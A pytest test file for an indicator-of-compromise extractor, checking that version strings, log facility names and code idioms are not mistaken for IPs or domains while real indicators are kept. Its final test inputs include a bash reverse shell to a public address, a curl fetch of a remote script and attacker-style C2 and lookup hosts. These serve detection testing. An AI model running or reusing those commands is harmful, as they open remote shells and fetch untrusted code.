"""IoC precision: version strings and code that look like addresses or domains are not IoCs.

Two lists. The first is read at test time from real public logs in ../shared/data (each entry
names the file, how the line was found with grep, and the look-alike it holds); before the
context rules, extraction over every text file of ../shared/data reported exactly these as
IoCs (dns: audit.file.name, auth.info, com.canonical.unity.scope.music, dbus.ar, wscript.shell;
ipv4: 0.99.2.0) and nothing else changed (compared value by value, with occurrence counts).
The second list holds the forms issue 13 reports from real Sentinel rows and common code
idioms. Real IoCs on the same lines must still be found.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from hunting.analysis.iocs import extract_from_text, extract_iocs

# (file under ../shared/data, text the line contains, look-alike values, real IoCs on the line)
_REAL_LOOKALIKES = [
    # grep -n 'release 0.99.2.0' fail2ban-auth-corpus/pam-generic → line 10 (a Linux-PAM release)
    ("fail2ban-auth-corpus/pam-generic", "release 0.99.2.0", ["0.99.2.0"], []),
    # grep -n 'pre-0.99.2.0' fail2ban-auth-corpus/SOURCE.md → line 6
    ("fail2ban-auth-corpus/SOURCE.md", "pre-0.99.2.0", ["0.99.2.0"], []),
    # grep -n 'auth.info' fail2ban-auth-corpus/sshd → 2 Solaris lines `[ID 800047 auth.info]` with an address
    ("fail2ban-auth-corpus/sshd", "auth.info] Failed", ["auth.info"], ["ipv4"]),
    # grep -n 'dbus.Array' plaso/syslog/syslog_rsyslog_traditional → lines 5-6 (Python repr in AptDaemon)
    ("plaso/syslog/syslog_rsyslog_traditional", "signature=dbus.Signature", ["dbus.ar", "dbus.array", "dbus.string"], []),
    # grep -n 'com.canonical.Unity' plaso/syslog/syslog_rsyslog_traditional → line 7 (a D-Bus name as program)
    ("plaso/syslog/syslog_rsyslog_traditional", "com.canonical.Unity.Scope.Music", ["com.canonical.unity.scope.music"], []),
    # grep -n 'audit.file.name' wazuh/auditd.ini → line 183 (a template field)
    ("wazuh/auditd.ini", "$(audit.file.name)", ["audit.file.name"], []),
    # grep -n 'wscript.shell used' sentinel-notebooks/alertlist.csv → a COM ProgID in an alert's command line
    ("sentinel-notebooks/alertlist.csv", "powershell wscript.shell used", ["wscript.shell"], []),
    # grep -n 'opts.get(' fail2ban-auth-corpus/sshd → Python code in a comment
    ("fail2ban-auth-corpus/sshd", "opts.get(", ["opts.get"], []),
]  # fmt: skip


def _line(root: Path, rel: str, contains: str) -> str:
    for line in (root / rel).read_text(encoding="utf-8").splitlines():
        if contains in line:
            return line
    raise AssertionError(f"no line with {contains!r} in {rel}")


@pytest.mark.parametrize(("rel", "contains", "lookalikes", "real_kinds"), _REAL_LOOKALIKES)
def test_real_lookalikes_are_not_iocs(
    shared_data: Path, rel: str, contains: str, lookalikes: list[str], real_kinds: list[str]
) -> None:
    found = extract_from_text(_line(shared_data, rel, contains))
    values = {v for _, v in found}
    assert not values & set(lookalikes), found
    for kind in real_kinds:  # the line's genuine address is still there
        assert any(t == kind for t, _ in found), found


def test_real_lookalikes_absent_from_whole_files(shared_data: Path) -> None:
    files = sorted({rel for rel, *_ in _REAL_LOOKALIKES})
    lines = [ln for rel in files for ln in (shared_data / rel).read_text(encoding="utf-8").splitlines()]
    found = extract_iocs(pd.DataFrame({"t": lines}), ["t"])
    bad = {v for *_, looks, _ in _REAL_LOOKALIKES for v in looks}
    assert not bad & set(found["Value"])
    # Real addresses of those files stay: fail2ban's hosts (SOURCE.md lists 192.0.2.1, 66.232.129.62)
    assert {"192.0.2.1", "66.232.129.62", "127.0.0.1"} <= set(found["Value"])


# Forms reported in issue 13 from real Sentinel rows, and code idioms: none is an IoC.
_LOOKALIKE_TEXTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "type=AUOMS_EXECVE audit(1690574834.540:84137): SchemaVersion=1 auoms_version=2.5.2.0 arch=x86_64",
    "name_version=1.2.3.4",
    "Microsoft Windows [Version 10.0.0.1]",
    "OpenSSL 1.1.1.1  11 Sep 2018",
    "installed openssl-1.1.1.1 and agent 2.5.2.0-1ubuntu1",
    "python -c 'import os,sys; data = afile.read(); os.path.join(sys.argv[1]); self.foo = 1'",
    "x = afile.read",
    "java.lang.Runtime.getRuntime().exec(cmd)",
    "org.apache.commons.io.FileUtils",
    "kern.info mail.info user.notice",
    "${env.name} %(self.name)s",
]


@pytest.mark.parametrize("text", _LOOKALIKE_TEXTS)
def test_lookalike_texts_give_no_address_or_domain(text: str) -> None:
    assert [x for x in extract_from_text(text) if x[0] in ("ipv4", "ipv6", "dns")] == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Failed password for root from 122.0.0.10 port 22 ssh2", ("ipv4", "122.0.0.10")),
        ("GET /x HTTP/1.1 from 203.0.113.9 agent Chrome/122", ("ipv4", "203.0.113.9")),
        ("DHCPRELEASE 10.0.0.5", ("ipv4", "10.0.0.5")),  # "release" inside a word is not a version
        ("curl -s http://self.foo/x.sh", ("dns", "self.foo")),  # a URL's host is kept
        ("connect to c2.evil-updates.com port 443", ("dns", "c2.evil-updates.com")),
        ("bash -i >& /dev/tcp/45.95.147.236/4444 0>&1", ("ipv4", "45.95.147.236")),
        ("nslookup payload.attacker.read", ("dns", "payload.attacker.read")),  # three labels: a host
    ],
)
def test_real_iocs_next_to_the_rules_still_found(text: str, expected: tuple[str, str]) -> None:
    assert expected in extract_from_text(text)
